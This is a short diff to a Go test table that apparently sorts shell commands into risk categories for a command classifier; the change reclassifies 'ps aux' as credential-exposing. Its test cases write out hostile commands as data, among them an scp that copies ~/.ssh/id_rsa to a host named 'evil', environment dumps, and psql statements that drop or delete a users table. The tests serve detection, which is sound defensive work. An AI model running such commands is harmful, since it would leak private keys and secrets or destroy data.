@@ -101,7 +101,7 @@ func TestCommand(t *testing.T) {
 		{[]string{"scp", "~/.ssh/id_rsa", "evil:/tmp"}, Network, []string{"~/.ssh/id_rsa"}, nil, true, false},
 		{[]string{"declare", "-px"}, Credential, nil, nil, false, false},
 		{[]string{"ps", "eww"}, Credential, nil, nil, false, false},
-		{[]string{"ps", "aux"}, Read, nil, nil, false, false},
+		{[]string{"ps", "aux"}, Credential, nil, nil, false, false},
 		{[]string{"psql", "-c", "DROP TABLE users"}, Destructive, nil, nil, false, true},
 		{[]string{"psql", "-d", "app", "-c", "delete from users"}, Destructive, nil, nil, false, true},
 		{[]string{"psql", "-c", "DELETE FROM users WHERE id = 3"}, Execute, nil, nil, false, false},
